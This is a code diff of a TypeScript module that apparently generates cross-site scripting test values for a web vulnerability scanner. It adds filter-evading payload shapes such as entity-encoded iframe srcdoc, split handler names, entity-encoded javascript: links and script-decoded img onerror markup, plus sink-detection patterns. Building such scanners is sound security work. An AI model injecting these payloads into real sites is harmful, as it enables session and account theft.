@@ -10,6 +10,10 @@ export interface Candidate {
   readonly interact: boolean;
   /** Scripts of the page make it run: whether they do, the page's text alone does not tell. */
   readonly unread: boolean;
+  /** Its mark has three letters, for what is cut. */
+  readonly short?: boolean;
+  /** Takes in what the page shows behind it: not to be left where others see it. */
+  readonly swallows?: boolean;
 }
 
 /** A way out of a place: `call` is the script to be run. */
@@ -20,9 +24,12 @@ interface Shape {
   readonly entitiesUndone?: boolean;
   /** The call stands in an attribute, where it may be written with entities of our own. */
   readonly inAttribute?: boolean;
+  /** A script undoes its own escapes (`\\u003c`) before it hands the value on. */
+  readonly escapesUndone?: boolean;
   readonly unread?: boolean;
   /** This character may come back with a backslash before it. */
   readonly backslashed?: string;
+  readonly swallows?: boolean;
   /** The one way to call the proof from there. */
   readonly call?: Call;
 }
@@ -55,15 +62,19 @@ const MARKUP: readonly Shape[] = [
   { make: (call) => `<svg/onload=${call}>`, inAttribute: true },
   { make: (call) => `<script>${call}</script>` },
   // Never closed: filters of whole tags see none.
-  { make: (call) => `<img src=x onerror=${call} x=`, inAttribute: true },
+  { make: (call) => `<img src=x onerror=${call} x=`, inAttribute: true, swallows: true },
+  // Neither a handler nor a script, as far as filters read it.
+  { make: (call) => `<iframe srcdoc=${entities(`<img src=x onerror=${call}>`, /[^0-9]/g)}></iframe>` },
   { make: (call) => `<scr<script>ipt>${call}</scr</script>ipt>` },
   { make: (call) => `<dEtAiLs oPeN oNtOgGlE=${call}>x`, inAttribute: true },
+  // Once `onx=` is taken out, a handler is left.
+  { make: (call) => `<img src=x oonx=nerror=${call}>`, inAttribute: true },
   { make: (call) => `<input autofocus onfocus=${call}>`, inAttribute: true },
   { make: (call) => `<img\nsrc=x\nonerror\n=${call}\n>`, inAttribute: true },
   { make: (call) => `<a href=javascript:${call}>x</a>`, inAttribute: true, interact: true },
   { make: (call) => `<im<b>g src=x onerror=${call}>`, inAttribute: true },
   { make: (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`, inAttribute: true },
-  { make: (call) => `<iframe srcdoc="<img src=x onerror=${call}>">`, inAttribute: true },
+  { make: (call) => `<iframe srcdoc="<img src=x onerror=${call}>"></iframe>`, inAttribute: true },
   { make: (call) => `<ScRiPt>${call}</sCrIpT>` },
   { make: (call) => `<audio src=x onerror=${call}>`, inAttribute: true },
   { make: (call) => `<x tabindex=1 autofocus onfocus=${call}>x`, inAttribute: true },
@@ -123,20 +134,43 @@ interface Where {
 export function candidatesFor(where: Where): Candidate[] {
   const { context, reflection, xml = false, expressions = false, scripts = '' } = where;
   const isEvaluated = expressions && (context.kind === 'text' || context.kind === 'attribute');
-  const usual = [...sinkShapes(context, scripts), ...shapesFor(context, reflection)];
+  const usual = [...sinkShapes(context, scripts), ...shapesFor(context, reflection), ...handedOn(context, scripts)];
   const inMarkup = isEvaluated ? [EXPRESSION, ...usual] : usual;
   const shapes = xml ? xmlShapes(context) : inMarkup;
-  return shapes.flatMap((shape) => {
-    const call = callsFor(shape, reflection).find((form) => fits(shape.make(form('m')), shape, reflection));
-    if (!call) return [];
-    const value = (mark: string) => shape.make(call(mark));
-    return {
-      value: reflection.decodesAgain ? (mark: string) => percentEncoded(value(mark)) : value,
-      interact: shape.interact === true,
-      unread: shape.unread === true,
-    };
+  return shapes.flatMap((shape, index) => {
+    const fitting = callsFor(shape, reflection).filter((form) => fits(shape.make(form('m')), shape, reflection));
+    const calls = reflection.isKnown ? fitting.slice(0, 1) : guessCalls(fitting, index);
+    return calls.map((call) => {
+      const value = (mark: string) => shape.make(call(mark));
+      return {
+        value: reflection.decodesAgain ? (mark: string) => percentEncoded(value(mark)) : value,
+        interact: shape.interact === true,
+        unread: shape.unread === true,
+        ...(shape.swallows && { swallows: true }),
+      };
+    });
   });
 }
+
+/** Where nothing is known of other signs than letters, those of the usual call may be what is refused. */
+function guessCalls(calls: readonly Call[], index: number): readonly Call[] {
+  const [usual, ticks, ...others] = calls;
+  const chosen = index === 0 ? [usual, ticks, others.at(-1)] : [index % 2 === 0 ? usual : (ticks ?? usual)];
+  return chosen.filter((call) => call !== undefined);
+}
+
+/** No token holds one of these, so that no call of another value is taken for it. */
+export const shortMark = () =>
+  Array.from({ length: 3 }, () => 'ghkmnpqtvwxz'.charAt(Math.floor(Math.random() * 12))).join('');
+const ANY_SHORT = 'xxx';
+
+export const shortLengthOf = ({ value }: Pick<Candidate, 'value'>) => value(ANY_SHORT).length;
+
+/** The same values with short marks, the shortest first. */
+export const shortest = (candidates: readonly Candidate[]): Candidate[] =>
+  candidates
+    .map((candidate) => ({ ...candidate, short: true }))
+    .toSorted((one, other) => shortLengthOf(one) - shortLengthOf(other));
 
 function callsFor(shape: Shape, { sameCase }: Reflection): readonly Call[] {
   if (shape.call) return sameCase ? [shape.call] : [];
@@ -152,6 +186,7 @@ function fits(value: string, shape: Shape, { treatmentOf, decodesAgain }: Reflec
     const treatment = treatmentOf(character);
     if (treatment === 'entity') return shape.entitiesUndone === true;
     if (treatment === 'backslash') return shape.backslashed === character;
+    if (treatment === 'escape') return shape.escapesUndone === true;
     return treatment !== 'changed';
   });
 }
@@ -209,7 +244,10 @@ function attributeShapes(context: Context & { kind: 'attribute' }, reflection: R
   const [likely, ...values] = inValue;
   const [handler, ...handlers] = handlerShapes(element, quote, hidden);
   const end = holdsNoMarkup(element) ? `</${element}>` : '';
-  const [tag, ...tags] = after(`${quote === '' ? 'x' : quote}>${end}`, MARKUP);
+  // A backslash escapes nothing in markup: the quote behind it ends the value.
+  const [tag, ...tags] = after(`${quote === '' ? 'x' : quote}>${end}`, MARKUP).map(
+    (shape): Shape => ({ ...shape, backslashed: quote }),
+  );
   const firsts = [likely, tag, handler].filter((shape) => shape !== undefined);
   return [...firsts, ...values, ...handlers, ...tags];
 }
@@ -229,13 +267,31 @@ function addressShapes(element: string): Shape[] {
     (call) => `javascript://x/%0a${call}`,
     (call) => `\u0001javascript:${call}`,
   ];
-  return forms.map((make) => ({ make, entitiesUndone: true, interact: true }));
+  const entity: Shape = {
+    make: (call) => `${entities('javascript', /[a-z]/g)}:${call}`,
+    inAttribute: true,
+    interact: true,
+  };
+  return [...forms.map((make): Shape => ({ make, entitiesUndone: true, interact: true })), entity];
 }
 
 /** What scripts make of strings: code, an address to go to, markup. */
 const BECOMES_CODE = /\b(?:eval|setTimeout|setInterval|Function|execScript)\s*\(/;
 const BECOMES_ADDRESS = /\blocation(?:\.href)?\s*=[^=]|\blocation\.(?:assign|replace)\s*\(|\bopen\s*\(/;
 const BECOMES_MARKUP = /\b(?:innerHTML|outerHTML|insertAdjacentHTML|document\.write(?:ln)?|html|append|prepend)\b/;
+
+/** Scripts that take what stands in the page, decoded by then, and make markup of it. */
+const READS_PAGE =
+  /\.(?:dataset|value|textContent|innerText)\b|getAttribute\s*\(|JSON\.parse\s*\(|\.(?:attr|val|data|text)\s*\(/;
+const WRITES_MARKUP =
+  /\b(?:innerHTML|outerHTML)\s*\+?=|\binsertAdjacentHTML\b|\bdocument\.write|\.(?:html|append|prepend)\s*\(/;
+
+const HANDED_ON: Shape = {
+  make: (call) => `<img src=x onerror=${call}>`,
+  entitiesUndone: true,
+  escapesUndone: true,
+  unread: true,
+};
 
 /** A string need not end for what stands in it to run, where a script hands it on. */
 function sinkShapes(context: Context, scripts: string): Shape[] {
@@ -245,9 +301,13 @@ function sinkShapes(context: Context, scripts: string): Shape[] {
   if (BECOMES_ADDRESS.test(scripts)) shapes.push({ make: (call) => `javascript:${call}`, unread: true });
   // A filter that looks for tags does not see them in escapes, which the script decodes itself.
   if (BECOMES_MARKUP.test(scripts))
-    shapes.push({ make: (call) => `\\x3cimg src=x onerror=${call}\\x3e`, unread: true });
+    shapes.push({ make: (call) => `\\x3cimg src=x onerror=${call}\\x3e`, unread: true }, HANDED_ON);
   return shapes;
 }
+
+/** For what is harmless where it stands, until a script of the page reads it there. */
+const handedOn = ({ kind }: Context, scripts: string): Shape[] =>
+  kind !== 'script' && READS_PAGE.test(scripts) && WRITES_MARKUP.test(scripts) ? [HANDED_ON] : [];
 
 /** A handler of our own in the element the value stands in. */
 function handlerShapes(element: string, quote: string, hidden: boolean): Shape[] {
@@ -257,6 +317,7 @@ function handlerShapes(element: string, quote: string, hidden: boolean): Shape[]
     make: (call) => `${end} ${attributes(call)}${tail}`,
     inAttribute: true,
     interact,
+    backslashed: quote,
   });
   const focus = own((call) => `autofocus tabindex=1 onfocus=${call}`, true);
   const load = own((call) => `onerror=${call} onload=${call}`);
